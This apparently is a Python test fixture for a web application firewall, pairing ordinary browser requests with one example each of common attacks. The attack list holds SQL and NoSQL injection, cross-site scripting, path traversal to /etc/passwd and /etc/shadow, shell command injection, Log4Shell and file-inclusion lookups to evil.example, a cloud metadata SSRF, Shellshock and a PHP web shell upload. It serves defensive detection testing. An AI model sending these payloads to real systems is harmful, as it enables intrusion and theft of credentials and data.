"""Requests written by hand: what people and attackers really send, one of each kind."""

from worker.security.waf.transaction import HttpRequest

Field = tuple[bytes, bytes]

AGENT = (
    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"
)
BROWSER: tuple[Field, ...] = (
    (b"Host", b"www.example.org"),
    (
        b"User-Agent",
        AGENT,
    ),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    (b"Accept-Language", b"en-GB,en;q=0.9,de;q=0.8"),
    (b"Accept-Encoding", b"gzip, deflate, br, zstd"),
    (b"Referer", b"https://www.example.org/articles?page=2&sort=newest"),
    (b"Cookie", b"session=4fXo1Lw0TzqQ8b3K; theme=dark; _ga=GA1.2.1034567890.1732600000; consent=yes"),
    (b"Sec-Fetch-Dest", b"document"),
    (b"Sec-Fetch-Mode", b"navigate"),
    (b"Upgrade-Insecure-Requests", b"1"),
)
FORM = b"application/x-www-form-urlencoded"
JSON = b"application/json"


def get(target: bytes, *more: Field) -> HttpRequest:
    return HttpRequest(b"GET", target, b"1.1", (*BROWSER, *more), b"", "192.0.2.1")


def post(target: bytes, content_type: bytes, body: bytes, *more: Field) -> HttpRequest:
    fields = (*BROWSER, (b"Content-Type", content_type), (b"Content-Length", b"%d" % len(body)), *more)
    return HttpRequest(b"POST", target, b"1.1", fields, body, "192.0.2.1")


HARMLESS = [
    get(b"/"),
    get(b"/articles?page=3&sort=newest"),
    get(b"/search?q=rock+%27n%27+roll"),
    get(b"/search?q=O%27Brien"),
    get(b"/search?q=select+a+colour+from+the+palette"),
    get(b"/static/app.min.js?v=1.2.3"),
    get(b"/f%C3%BCr/%C3%BCber?x=%C3%A4"),
    get(b"/maps?bbox=-0.51,51.28,0.33,51.69&zoom=12"),
    get(b"/login?next=%2Faccount%2Forders%3Fyear%3D2026"),
    get(b"/a", (b"Range", b"bytes=0-1023")),
    get(b"/a", (b"If-None-Match", b'"abc"'), (b"If-Modified-Since", b"Thu, 26 Nov 2026 12:00:00 GMT")),
    post(b"/login", FORM, b"user=j%C3%BCrgen&password=c0rrect%3Bhorse%26battery%27staple"),
    post(b"/comment", FORM, b"text=I+said+%22where+is+it%22%3B+she+said+%22order+by+phone%22&id=7"),
    post(b"/graphql", JSON, b'{"query": "query { user(id: 1) { name, posts(first: 5) { title } } }"}'),
    post(b"/api/items", JSON, b'{"name": "screw 5 x 40", "price": 0.05, "tags": ["wood", "a/b"], "x": null}'),
    post(
        b"/wiki", JSON, b'{"text": "# SQL\\n\\n    SELECT name FROM people WHERE id = 1;\\n\\nis a query."}'
    ),
    post(b"/soap", b"text/xml", b'<?xml version="1.0"?><order id="5"><item>Bolt &amp; nut</item></order>'),
    post(
        b"/upload",
        b"multipart/form-data; boundary=----x",
        b'------x\r\nContent-Disposition: form-data; name="title"\r\n\r\nMy holiday\r\n'
        b'------x\r\nContent-Disposition: form-data; name="file"; filename="beach.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\r\n------x--\r\n",
    ),
]

ATTACKS = [
    get(b"/item?id=1%27%20OR%20%271%27=%271"),
    get(b"/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    get(b"/item?id=1;WAITFOR%20DELAY%20%270:0:5%27--"),
    get(b"/item?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))"),
    get(b"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    get(b"/search?q=%22%20onmouseover=%22alert(1)"),
    get(b"/search?q=javascript:alert(1)"),
    get(b"/download?file=../../../../etc/passwd"),
    get(b"/download?file=..%252f..%252f..%252fetc%252fshadow"),
    get(b"/../../etc/passwd"),
    get(b"/.git/config"),
    get(b"/index.php?page=php://filter/convert.base64-encode/resource=config"),
    get(b"/?cmd=;cat%20/etc/passwd"),
    get(b"/?cmd=$(id)"),
    get(b"/?x=${jndi:ldap://evil.example/a}"),
    get(b"/", (b"X-Api-Version", b"${jndi:ldap://evil.example/a}")),
    get(b"/?url=http://169.254.169.254/latest/meta-data/"),
    get(b"/?url=http://evil.example/shell.txt?"),
    get(b"/?x=a%0d%0aSet-Cookie:%20admin=1"),
    get(b"/?x=%00"),
    get(b"/backup.sql"),
    get(b"/cgi-bin/test", (b"X-Test", b"() { :; }; /bin/id")),
    post(b"/login", FORM, b"user=admin%27--&password=x"),
    post(b"/login", JSON, b'{"user": {"$ne": null}, "password": {"$ne": null}}'),
    post(b"/api", JSON, b'{"x": "<img src=x onerror=alert(1)>"}'),
    post(b"/api", JSON, b'{"__proto__": {"admin": true}}'),
    post(b"/soap", b"text/xml", b"<a>1' or '1'='1</a>"),
    post(
        b"/upload",
        b"multipart/form-data; boundary=----x",
        b'------x\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n'
        b"Content-Type: application/x-php\r\n\r\n<?php system($_GET['c']); ?>\r\n------x--\r\n",
    ),
]
